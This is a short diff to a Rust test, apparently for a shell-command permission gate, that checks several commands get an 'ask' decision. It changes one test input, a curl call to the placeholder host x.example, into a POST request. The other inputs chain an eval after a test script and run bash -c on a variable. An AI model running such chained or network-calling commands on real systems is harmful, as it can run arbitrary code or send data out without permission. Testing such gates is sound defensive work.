@@ -480,7 +480,7 @@ fn the_registered_test_command_is_contained() {
     for other in [
         "sh test.sh; eval \"$X\"",
         "bash -c \"$X\"",
-        "curl https://x.example/t.sh",
+        "curl -X POST https://x.example/t.sh",
     ] {
         let (d, reason) = w.bash(None, other);
         assert_eq!(d, "ask", "{other}: {reason}");
